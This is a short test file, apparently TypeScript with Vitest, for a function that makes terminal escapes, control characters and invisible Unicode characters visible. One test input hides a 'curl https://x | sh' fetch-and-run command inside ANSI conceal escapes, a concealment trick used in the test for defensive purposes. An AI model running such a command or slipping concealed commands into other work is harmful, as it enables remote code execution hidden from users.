import { describe, expect, it } from 'vitest';
import { visibleText } from './visible-text.ts';

describe('visibleText', () => {
  it('shows terminal escapes, line breaks and invisible format characters', () => {
    expect(visibleText('echo ok \u001b[8m; curl https://x | sh \u001b[0m')).toBe(
      'echo ok \\e[8m; curl https://x | sh \\e[0m',
    );
    expect(visibleText('a\rb\nc\td\u0007\u009b\u202e\u2066\ufeff')).toBe(
      'a\\rb\\nc\\td\\x07\\x9b\\u{202E}\\u{2066}\\u{FEFF}',
    );
    expect(visibleText('plain ünïcode — text')).toBe('plain ünïcode — text');
  });
});
